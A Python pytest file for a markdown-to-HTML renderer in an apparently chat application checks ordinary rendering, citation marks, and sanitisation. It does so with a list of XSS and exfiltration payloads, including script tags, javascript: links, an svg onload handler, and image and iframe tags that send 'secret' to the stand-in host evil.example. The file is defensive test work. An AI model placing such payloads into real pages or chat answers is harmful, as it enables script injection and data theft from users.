import pytest

from memorychat.lib.markdown import cited, to_html


def test_plain_markdown_becomes_html() -> None:
    assert to_html("Some **bold** and `code`") == "<p>Some <strong>bold</strong> and <code>code</code></p>\n"
    assert '<code class="language-python">' in to_html("```python\nx\n```")
    assert "<td>1</td>" in to_html("|a|\n|-|\n|1|")


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "![x](https://evil.example/?q=secret)",
        "<img src=https://evil.example/?q=secret>",
        "[x](javascript:alert(1))",
        "[x](data:text/html,hi)",
        "<a href=javascript:alert(1)>x</a>",
        "<style>@import url(https://evil.example)</style>",
        "<iframe src=https://evil.example></iframe>",
        '<svg onload="alert(1)">',
    ],
)
def test_nothing_in_an_answer_runs_or_fetches(text: str) -> None:
    html = to_html(text)
    for opening in ("<script", "<img", "<style", "<iframe", "<svg", 'href="javascript', 'href="data'):
        assert opening not in html


def test_the_numbers_of_given_memories_become_marks_outside_code_alone() -> None:
    html = to_html("You live in Porto [1], `[1]` and [7].", citations=[1])
    assert html == '<p>You live in Porto<sup class="cite">1</sup>, <code>[1]</code> and [7].</p>\n'
    assert cited("[1] and [12], not [x]") == {1, 12}
